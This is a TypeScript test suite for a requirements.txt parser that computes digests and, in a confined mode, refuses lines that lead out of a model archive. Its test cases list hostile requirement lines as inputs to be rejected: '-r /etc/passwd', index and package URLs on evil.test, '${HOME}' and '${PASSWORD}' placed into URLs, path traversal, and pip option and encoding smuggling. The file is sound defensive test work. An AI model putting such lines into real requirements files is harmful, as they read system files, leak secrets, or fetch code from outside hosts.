import { mkdirSync, mkdtempSync, realpathSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { wheel } from '../../../test/fixtures/wheels.js';
import { LeadsOut } from './leading-out.js';
import { type Requirements, type RequirementsOf, readRequirements } from './requirements.js';

let folder: string;
let directory: string;

beforeEach(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), 'sconce-reqs-')));
  directory = join(folder, 'model');
  mkdirSync(directory);
});

afterEach(() => {
  rmSync(folder, { recursive: true, force: true });
});

function put(name: string, text: string): string {
  const path = join(folder, name);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
  return path;
}

function read(text: string, over: Partial<RequirementsOf> = {}): Promise<Requirements> {
  return readRequirements(put('model/requirements.txt', text), { directory, contentHash: 'one', environment: {}, ...over });
}

async function digests(text: string, ...over: readonly Partial<RequirementsOf>[]): Promise<number> {
  return new Set((await Promise.all(over.map((each) => read(text, each)))).map(({ digest }) => digest)).size;
}

/** Whether the rest of the archive counts for what is installed. */
async function countsTheArchive(text: string): Promise<boolean> {
  return (await digests(text, { contentHash: 'one' }, { contentHash: 'two' })) === 2;
}

describe('requirements', () => {
  it.each([
    'numpy',
    'numpy==1.26 # as in training',
    'uvicorn[standard] >= 0.20, < 1 ; python_version > "3.9"',
    'thing~=1.0 \\\n  --hash=sha256:00 \\\n  --hash=sha256:01',
    'thing @ https://files.test/thing-1.0-py3-none-any.whl',
    'thing @ git+https://git.test/thing.git@main',
    '--index-url https://index.test/simple\n--extra-index-url=https://other.test\n--pre\nnumpy',
    '# nothing but words: ./here\n\n',
  ])('that name only what is elsewhere are the same in every archive: %s', async (text) => {
    expect(await countsTheArchive(text)).toBe(false);
  });

  it.each([
    './wheels/a.whl',
    'a-1.0-py3-none-any.whl',
    '.',
    '-e ./mine',
    '--editable=mine',
    '-f wheels',
    '--find-links ./wheels',
    'a @ file:./a.whl',
    'a; b\n../x/y',
  ])('that name files of the archive change with it: %s', async (text) => {
    expect(await countsTheArchive(text)).toBe(true);
  });

  it('are as their own text and that of the files they name, however deep and in circles', async () => {
    const text = '-r more/a.txt\n-cb.txt\n--constraint=more/c.txt\n--requirement "more/d e.txt"\n';
    const names = ['more/a.txt', 'more/deep.txt', 'b.txt', 'more/c.txt', 'more/d e.txt'];
    for (const name of names) put(`model/${name}`, name === 'more/a.txt' ? '-r deep.txt\n-r a.txt\n-r ../requirements.txt' : 'x');
    const seen = [(await read(text)).digest];

    for (const name of names) {
      put(`model/${name}`, name === 'more/a.txt' ? '-r deep.txt\nchanged' : 'changed');
      seen.push((await read(text)).digest);
    }

    expect(new Set(seen).size).toBe(names.length + 1);
    await expect(read('-r missing.txt')).rejects.toThrow('ENOENT');
  });

  it('that name files of this machine change with them', async () => {
    const wheel = put('wheels/a.whl', 'a');
    const text = `a @ file://${wheel}\n--find-links ${dirname(wheel)}\n`;
    const before = await read(text);
    expect((await read(text)).digest).toBe(before.digest);

    utimesSync(wheel, new Date(1000), new Date(1000));
    const newer = await read(text);
    put('wheels/b.whl', 'b');

    expect(new Set([before.digest, newer.digest, (await read(text)).digest]).size).toBe(3);
  });

  it('depend on the variables that they name, but for names and passwords in addresses', async () => {
    const at = (NAME: string) => ({ environment: { NAME } });

    expect(await digests(`numpy==\${NAME}`, at('1'), at('2'))).toBe(2);
    expect(await digests('numpy', at('1'), at('2'))).toBe(1);
    expect(await digests(`--index-url https://\${NAME}@index.test/simple`, at('me:one'), at('me:two'))).toBe(1);
  });

  it('that install for editing are told from others', async () => {
    expect((await read('-e ./mine')).isEditable).toBe(true);
    expect((await read('./mine')).isEditable).toBe(false);
  });

  it('that are hostile are read in no time, or refused', async () => {
    for (const piece of [' ', '[', 'a ', '@', '://', '#', '\\\n', '"', '-r']) await read(piece.repeat(2 ** 20 / piece.length)).catch(() => undefined);

    await expect(read('x\n'.repeat(2 ** 22))).rejects.toThrow('too long');
    await expect(read('-r /dev/zero')).rejects.toThrow('is no file');
    await expect(read('-r more')).rejects.toThrow();
    for (let number = 0; number < 60; number += 1) put(`model/r${number}.txt`, `-r r${number + 1}.txt`);
    await expect(read('-r r0.txt')).rejects.toThrow('more than 50 files');
  });
});

describe('AR11 requirements that are to stay in the archive', () => {
  it.each([
    '-r /etc/passwd',
    '-c ../other/constraints.txt',
    '-r https://evil.test/requirements.txt',
    '--index-url http://evil.test/simple',
    '-i http://evil.test/simple',
    `--extra-index-url=https://evil.test/\${HOME}`,
    '--find-links /srv/other',
    '-f http://evil.test',
    '--trusted-host evil.test',
    'numpy @ https://evil.test/numpy.whl',
    '-e git+https://evil.test/repository#egg=numpy',
    'git+ssh://git@evil.test/repository',
    'own @ file:///srv/other/own.whl',
    '/srv/other/own.whl',
    '../other',
    '-e ../other',
    'numpy --config-settings="--build-option=x"',
    'numpy==1.0 --global-option=x',
    `numpy==\${PASSWORD}`,
    'numpy \\\n --config-settings=x',
    // Which pip reads as the options above.
    '-ihttp://evil.test/simple',
    '--index evil.test/simple',
    '--pypi-url=evil.test/simple',
    '--find-l /srv/other',
    '--trusted evil.test',
    '--pre --trusted-host evil.test',
    '--pre "--find-links" /srv/other',
    'numpy -C setup=x',
    '# seen by nobody \\\n--trusted-host evil.test',
    '# seen by nobody\f--trusted-host evil.test',
    'numpy\r-f /srv/other',
    '\\--trusted-host evil.test\\\n',
    // Which it reads as paths and addresses elsewhere.
    '-e git+file:/srv/other',
    'git+file:/srv/other',
    '-e "../other"',
    '-r ""/etc/passwd',
    '-r \\/etc/passwd',
    '-r further.txt and-not-this.txt',
    'a=/../../other',
    'own[/../../other]',
    './own\ufeff#/../../other',
    '..\x1f#/../own',
  ])('may not say %j', async (line) => {
    await expect(read(`colours==1.0\n${line}\n`, { confined: true })).rejects.toBeInstanceOf(LeadsOut);
  });

  it('nor may a file that they name, and the line is told without a password', async () => {
    put('model/further.txt', '--index-url https://name:secret@evil.test/simple\n');

    await expect(read('-r further.txt\n', { confined: true })).rejects.toThrow('"--index-url https://evil.test/simple" leads out of the archive');
    await expect(read('-e git+https://name:secret@evil.test/repository\n', { confined: true })).rejects.toThrow(
      '"-e git+https://evil.test/repository" is built by code of its own',
    );
  });

  it.each([
    ['another encoding', Buffer.from('# coding: utf-7\nnumpy+AAo--index-url')],
    ['another encoding of the second line', Buffer.from('\n# coding:\u00a0utf-8 coding=utf-7\n')],
    ['a mark of another encoding', Buffer.from('\ufeffnumpy', 'utf16le')],
    ['no UTF-8', Buffer.from([0x6e, 0xff])],
  ])('may not be of %s, in which pip would read others', async (_, bytes) => {
    const file = put('model/requirements.txt', '');
    writeFileSync(file, bytes);

    await expect(readRequirements(file, { directory, contentHash: 'one', environment: {}, confined: true })).rejects.toThrow('is no plain UTF-8');
  });

  it.each([
    '.',
    './own',
    'own/setup.py',
    './own[all] ; python_version > "3.8"',
    '-e ./own',
    '--editable=own',
    './own-1.0.tar.gz',
    './own-1.0.zip',
    '--no-binary :all:',
    '--no-binary=numpy',
    '--only-binary :none:',
    '--only-binary=numpy,:none:',
    // Which it reads as the folder.
    './own#/a-1.0-py3-none-any.whl',
  ])('may not say %j, by which code of theirs would run', async (line) => {
    put('model/own/setup.py', '');

    await expect(read(`colours==1.0\n${line}\n`, { confined: true })).rejects.toBeInstanceOf(LeadsOut);
  });

  it.each(['own @ file:///srv/other/own.tar.gz', 'own@git+https://evil.test/repository', 'own [x] @ https://evil.test/own.whl ; extra == "y"'])(
    'may not name a wheel that requires %j',
    async (address) => {
      mkdirSync(join(directory, 'wheels'));
      await wheel(join(directory, 'wheels'), { name: 'a', version: '1.0', module: '', requires: ['numpy>=1', address] });

      await expect(read('./wheels/a-1.0-py3-none-any.whl', { confined: true })).rejects.toThrow('of a-1.0-py3-none-any.whl leads out of the archive');
      await expect(read('./wheels/a-1.0-py3-none-any.whl')).resolves.toMatchObject({ isEditable: false });
    },
  );

  it('may not name a wheel that is none', async () => {
    put('model/a-1.0-py3-none-any.whl', 'no zip');

    await expect(read('./a-1.0-py3-none-any.whl', { confined: true })).rejects.toThrow('End of central directory record signature not found');
    await expect(read('./missing-1.0-py3-none-any.whl', { confined: true })).rejects.toThrow('ENOENT');
  });

  it('name packages, and wheels that lie in it', async () => {
    mkdirSync(join(directory, 'own'));
    await wheel(join(directory, 'own'), { name: 'a', version: '1.0+cu121', module: '', requires: ['numpy>=1', 'b[c] (<2) ; extra == "d"'] });
    put('model/further.txt', 'colours==1.0 ; python_version >= "3.9"\n');

    const text = [
      '\ufeff# -*- coding: utf-8 -*-',
      'shades[extra]>=1,<2',
      'tints == 1.0 ; python_version > "3.8" and sys_platform != \'win32\' \\',
      '  --hash=sha256:00ff --hash=sha256:01  # as tried',
      'hues (>=1.0)',
      '-r further.txt',
      '-c "further.txt"',
      '--no-index',
      '--pre --prefer-binary',
      '--only-binary :all:',
      '--only-binary=numpy,hues',
      'own/a-1.0+cu121-py3-none-any.whl',
      './own/a-1.0+cu121-py3-none-any.whl[d] ; python_version > "3.8"',
    ].join('\n');

    await expect(read(text, { confined: true })).resolves.toMatchObject({ isEditable: false });
  });
});
